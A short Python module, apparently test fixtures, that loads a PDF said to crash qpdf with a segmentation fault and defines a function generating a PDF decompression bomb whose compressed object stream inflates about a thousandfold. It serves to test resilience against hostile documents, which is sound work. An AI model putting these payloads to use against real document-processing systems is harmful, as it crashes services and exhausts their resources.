"""Documents made to harm their reader."""

import zlib
from pathlib import Path

# A page whose object bears the number of the page tree's root: qpdf's own list of pages ends in SIGSEGV.
SEGFAULT = (Path(__file__).parent / "data/documents/pdf_segfault_a.pdf").read_bytes()


def bomb(megabytes: int) -> bytes:
    """A PDF of about a thousandth of that size, whose object stream unfolds to it."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>",
    ]
    starts = [sum(len(one) + 1 for one in objects[:n]) for n in range(3)]
    head = b"".join(b"%d %d " % (n + 1, start) for n, start in enumerate(starts))
    deflate = zlib.compressobj(9)
    first = deflate.compress(head + b" ".join(objects)) + deflate.flush(zlib.Z_FULL_FLUSH)
    # A block that refers to nothing before it can be repeated.
    block = deflate.compress(b" " * 1_000_000) + deflate.flush(zlib.Z_FULL_FLUSH)
    data = first + block * megabytes
    out = b"%PDF-1.5\n"
    stream = len(out)
    out += b"4 0 obj\n<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (
        len(head),
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    table = len(out)
    rows = [b"\0\0\0\0\0\0", *(b"\2\0\0\0\4" + bytes([n]) for n in range(3))]
    rows += [b"\1" + at.to_bytes(4, "big") + b"\0" for at in (stream, table)]
    out += b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length 36>>\nstream\n"
    return out + b"".join(rows) + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
